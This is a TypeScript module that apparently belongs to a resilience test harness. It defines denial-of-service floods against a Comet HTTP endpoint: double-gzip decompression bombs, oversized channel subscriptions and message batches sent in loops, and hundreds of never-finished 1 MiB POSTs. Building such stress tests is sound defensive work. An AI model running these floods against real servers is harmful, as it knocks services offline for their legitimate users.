import zlib from 'node:zlib';
import { COMET_PATH, HOLD_QUERY, USERS_ADDRESS } from '../plant.ts';
import { doubleGzipBomb, manyMessages, subscription } from './bombs.ts';
import type { Flood } from './flood.ts';
import { KNOWN, toCometPost, toHead, toPost } from './requests.ts';

const CONNECTIONS = 8;
const MEBIBYTE = 1024 * 1024;
/** Just below the largest body that is read. */
const UNFINISHED_BYTES = MEBIBYTE - 100;

/** Bodies that are expensive to read, sent in a loop, each after the answer to the previous one. */
function bodiesInALoop(make: () => Buffer, from?: string): Flood['attack'] {
  return async (attacker) => {
    const request = make();
    const ask = async (socket: Parameters<typeof attacker.ask>[0]) =>
      (await attacker.ask(socket, request)) !== undefined;
    await attacker.repeatOnConnections(CONNECTIONS, ask, from === undefined ? {} : { from });
  };
}

/** `count` POSTs of which the last bytes never come. */
function unfinishedBodies(count: number): Flood['attack'] {
  return async (attacker) => {
    const head = toHead(`POST ${COMET_PATH}`, { ...KNOWN, 'Content-Length': UNFINISHED_BYTES + 1 });
    const body = Buffer.alloc(UNFINISHED_BYTES, '[{"channel":"/service/d2/rpc","data":"x"},');
    const sockets = await attacker.connectMany(count);
    await Promise.all(sockets.map((socket) => attacker.write(socket, Buffer.concat([Buffer.from(head), body]))));
    await attacker.untilEnd();
  };
}

export const COMET_BODIES: readonly Flood[] = [
  {
    name: 'gzip-bomb',
    what: 'POSTs of 124 bytes that unpack to 4.2 MB of nested arrays, refused with 401; 8 connections in a loop',
    attack: bodiesInALoop(() => toCometPost(doubleGzipBomb(), { 'Content-Encoding': 'gzip, gzip' })),
  },
  {
    name: 'gzip-bomb-known',
    what: 'the same from a user whom the server accepts',
    attack: bodiesInALoop(() => toCometPost(doubleGzipBomb(), { ...KNOWN, 'Content-Encoding': 'gzip, gzip' })),
  },
  {
    name: 'comet-channels',
    what: '200,000 channels in one subscription with gzip, accepted; 8 connections in a loop',
    attack: bodiesInALoop(() =>
      toCometPost(zlib.gzipSync(subscription(200_000)), { ...KNOWN, 'Content-Encoding': 'gzip' }),
    ),
  },
  {
    name: 'comet-messages',
    what: "9,900 messages in one body, accepted; 8 connections in a loop, from the honest users' address",
    attack: bodiesInALoop(() => toCometPost(Buffer.from(manyMessages(9_900)), KNOWN), USERS_ADDRESS),
  },
  {
    name: 'bodies-400',
    what: '400 Comet POSTs of nearly 1 MiB that never end',
    attack: unfinishedBodies(400),
  },
  {
    name: 'bodies-250',
    what: '250 Comet POSTs of nearly 1 MiB that never end',
    maxGrowthBytes: 130e6,
    attack: unfinishedBodies(250),
  },
  {
    name: 'held-subscriptions',
    what: 'six subscriptions of 0.5 MB, 200,000 channels with gzip, that the server holds',
    attack: async (attacker) => {
      const fields = { ...KNOWN, 'Content-Type': 'application/json', 'Content-Encoding': 'gzip' };
      const sockets = await attacker.connectMany(6);
      const request = toPost(`${COMET_PATH}?${HOLD_QUERY}`, zlib.gzipSync(subscription(200_000)), fields);
      await Promise.all(sockets.map((socket) => attacker.write(socket, request)));
      await attacker.untilEnd();
    },
  },
];
